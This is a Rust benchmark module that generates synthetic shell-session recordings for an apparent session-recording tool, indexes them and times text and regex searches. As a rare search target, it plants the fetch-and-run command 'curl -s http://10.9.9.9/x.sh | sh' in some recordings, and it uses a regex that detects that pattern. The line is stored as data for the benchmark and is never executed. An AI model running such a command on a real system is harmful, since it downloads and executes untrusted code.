//! `psm-perf search-bench`: writes N realistic shell recordings through the recording writer,
//! indexes them as psm-recorder does (`psm_recorder_index`), and times searches over them.
//! Deterministic (a fixed-seed generator), bounded (N ≤ 10 000, the folder must be new).

use std::fs;
use std::path::Path;
use std::time::Instant;

use anyhow::{bail, Context as _};
use psm_recorder_format::file::{Record, RecordingWriter};
use psm_recorder_format::{Direction, RecordingMeta};
use psm_recorder_index::{IndexReader, IndexWriter, Query, INDEX_FILE};

const USERS: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
];
const TARGETS: &[&str] = &[
    "web01", "web02", "db1", "db2", "cache1", "batch7", "ci3", "edge4",
];
const COMMANDS: &[&str] = &[
    "ls -la /var/log",
    "cd /etc/nginx",
    "cat nginx.conf",
    "systemctl status nginx",
    "journalctl -u postgresql --since today",
    "df -h",
    "ps aux | grep java",
    "tail -n 50 /var/log/syslog",
    "sudo -i",
    "vim /etc/hosts",
    "grep -r timeout /etc/app/",
    "docker ps",
    "kubectl get pods -n prod",
    "free -m",
    "uptime",
    "top -b -n 1 | head",
    "git pull --rebase",
    "psql -c 'select count(*) from orders'",
];

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, xs: &'a [&'a str]) -> &'a str {
        xs[(self.next() % xs.len() as u64) as usize]
    }
}

fn data(ts_us: u64, direction: Direction, bytes: &[u8]) -> Record {
    Record::Data {
        ts_us,
        channel: 0,
        direction,
        data: bytes.to_vec().into(),
    }
}

/// Writes recording `i` (about `commands` commands, each echoed with a coloured prompt and
/// 3–12 lines of output) to `dir`.
fn write_recording(dir: &Path, i: usize, commands: usize, rng: &mut Rng) -> anyhow::Result<()> {
    let user = USERS[i % USERS.len()];
    let target = TARGETS[(i / USERS.len()) % TARGETS.len()];
    let meta = RecordingMeta {
        protocol: String::new(),
        recording_id: format!("bench-{i:05}"),
        session_id: format!("s-{i:05}"),
        user: user.into(),
        account: "root".into(),
        target: target.into(),
        source: "10.0.0.1".into(),
        start_ms: 1_790_000_000_000 + i as u64 * 60_000,
    };
    let path = dir.join(format!("{}.psmrec", meta.recording_id));
    let f = fs::File::create(&path).with_context(|| format!("creating {}", path.display()))?;
    let mut w = RecordingWriter::new(std::io::BufWriter::new(f), &meta)?;
    let mut ts = 0u64;
    for n in 0..commands {
        let prompt = format!("\x1b[1;32mroot@{target}\x1b[0m:\x1b[1;34m~\x1b[0m# ");
        w.write(&data(ts, Direction::Output, prompt.as_bytes()))?;
        let cmd = if n == commands / 2 && i % 100 == 7 {
            "curl -s http://10.9.9.9/x.sh | sh"
        } else {
            rng.pick(COMMANDS)
        };
        for c in cmd.bytes() {
            ts += 80_000 + rng.next() % 120_000;
            w.write(&data(ts, Direction::Input, &[c]))?;
            w.write(&data(ts + 300, Direction::Output, &[c]))?;
        }
        ts += 150_000;
        w.write(&data(ts, Direction::Input, b"\r"))?;
        w.write(&data(ts + 300, Direction::Output, b"\r\n"))?;
        let mut out = Vec::new();
        for k in 0..(3 + rng.next() % 10) {
            out.extend_from_slice(
                format!(
                    "{:>8} {:04x}{:08x} {} status={} pid={}\r\n",
                    k * 4096,
                    rng.next() & 0xffff,
                    rng.next() & 0xffff_ffff,
                    rng.pick(&["ok", "warn", "\x1b[31mERROR\x1b[0m", "info", "done"]),
                    rng.next() % 500,
                    1000 + rng.next() % 30_000
                )
                .as_bytes(),
            );
        }
        ts += 20_000;
        w.write(&data(ts, Direction::Output, &out))?;
        ts += 1_000_000 + rng.next() % 5_000_000;
        if n % 20 == 19 {
            w.flush()?;
        }
    }
    w.finish()?;
    Ok(())
}

fn dir_size(dir: &Path, pred: impl Fn(&str) -> bool) -> anyhow::Result<u64> {
    let mut total = 0;
    for e in fs::read_dir(dir)? {
        let e = e?;
        if pred(&e.file_name().to_string_lossy()) {
            total += e.metadata()?.len();
        }
    }
    Ok(total)
}

/// Runs the benchmark in `dir` (created; must not exist) and prints the figures.
pub fn run(dir: &Path, recordings: usize, commands: usize) -> anyhow::Result<()> {
    if recordings == 0 || recordings > 10_000 || commands == 0 || commands > 2_000 {
        bail!("--recordings must be 1..=10000 and --commands 1..=2000");
    }
    fs::create_dir(dir)
        .with_context(|| format!("creating {} (it must not exist)", dir.display()))?;
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let t = Instant::now();
    for i in 0..recordings {
        write_recording(dir, i, commands, &mut rng)?;
    }
    println!(
        "wrote {recordings} recordings in {:.1} s",
        t.elapsed().as_secs_f64()
    );
    let index = dir.join(INDEX_FILE);
    let t = Instant::now();
    let mut w = IndexWriter::open(&index)?;
    let mut lines = 0;
    for i in 0..recordings {
        lines += w.index_file(&dir.join(format!("bench-{i:05}.psmrec")))?;
    }
    drop(w);
    println!(
        "indexed {lines} lines in {:.1} s ({:.0} lines/s)",
        t.elapsed().as_secs_f64(),
        lines as f64 / t.elapsed().as_secs_f64()
    );
    let rec_bytes = dir_size(dir, |n| n.ends_with(".psmrec"))?;
    let idx_bytes = dir_size(dir, |n| n.starts_with(INDEX_FILE))?;
    println!(
        "recordings {:.1} MiB, index {:.1} MiB ({:.2}x the recordings)",
        rec_bytes as f64 / 1048576.0,
        idx_bytes as f64 / 1048576.0,
        idx_bytes as f64 / rec_bytes as f64
    );
    let r = IndexReader::open(&index)?;
    let queries: Vec<(&str, Query)> = vec![
        ("rare command (10 hits)", q("10.9.9.9/x.sh", false)),
        ("common command", q("kubectl get pods", false)),
        (
            "rare + --user",
            Query {
                user: Some("alice".into()),
                ..q("10.9.9.9", false)
            },
        ),
        (
            "common + --target",
            Query {
                target: Some("root@db1".into()),
                ..q("systemctl status", false)
            },
        ),
        ("no hit", q("no-such-text-anywhere", false)),
        (
            "regex, all recordings",
            q(r"curl -s http://[0-9.]+/\S+ \| sh", true),
        ),
        (
            "regex + --user",
            Query {
                user: Some("bob".into()),
                ..q(r"status=4\d\d pid=", true)
            },
        ),
    ];
    for (label, query) in &queries {
        let mut best = f64::MAX;
        let mut hits = 0;
        for _ in 0..3 {
            let t = Instant::now();
            hits = r.search(query)?.len();
            best = best.min(t.elapsed().as_secs_f64());
        }
        println!("search {label:<26} {:>9.1} ms  {hits} hits", best * 1000.0);
    }
    Ok(())
}

fn q(text: &str, regex: bool) -> Query {
    Query {
        text: text.into(),
        regex,
        ..Default::default()
    }
}
